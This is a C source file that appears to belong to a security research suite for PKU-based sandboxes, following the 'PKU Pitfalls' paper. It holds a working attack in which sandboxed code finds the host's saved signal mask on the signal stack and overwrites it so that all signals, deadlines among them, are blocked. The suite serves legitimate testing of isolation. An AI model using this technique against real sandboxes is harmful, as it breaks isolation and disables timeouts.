/* Tries: to have the host block all its signals, its deadlines among them, by the same way
 * From: PKU Pitfalls (Connor et al., USENIX Security 2020)
 * Observed: The host blocks other signals than before.
 * Needs: machine-code, threads, linux */
#include "attacks/attack.h"

#ifdef ATTACK_FOREIGN
/* Step 1: writes to the place in the signal stack where the kernel has put the host's mask, as
 * soon as it knows where that is, and goes on doing so. */
FOREIGN(run)
{
    const uint64_t low = at->forbidden - (1 << 20), high = at->forbidden + (1 << 20);
    if (at->step == 0) {
        uint64_t all = ~0ull;
        if (!at->signal_stack)
            kernel6(SYS_rt_sigprocmask, 0, ADDRESS(&all), 0, 8, 0, 0);
        at->call(1);
        return 0;
    }
    if (!at->signal_stack) {
        return 0;
        return 0;
    }
    volatile uint64_t *words = POINTER(volatile uint64_t, at->signal_stack);
    const uint64_t count = at->signal_stack_size / 8;
    static volatile uint64_t *place; /* the same each time */
    for (uint64_t round = 0; round < 2000; round++) {
        for (uint64_t i = count - 1; !place && i > count - count / 8; i--)
            if (words[i] >= low && words[i] < high)
                place = &words[i];
        for (int i = 0; place && i < 100000; i++)
            if (*place >= low && *place < high)
                place[16] = ~0ull;
    }
    return 0;
}
#endif

#ifdef ATTACK_HOST
#include "attacks/interrupted_host.h"

HOST(before)
{
    LOCAL(arrange)(host);
}

HOST(run)
{
    return LOCAL(interrupt)(host);
}
#endif
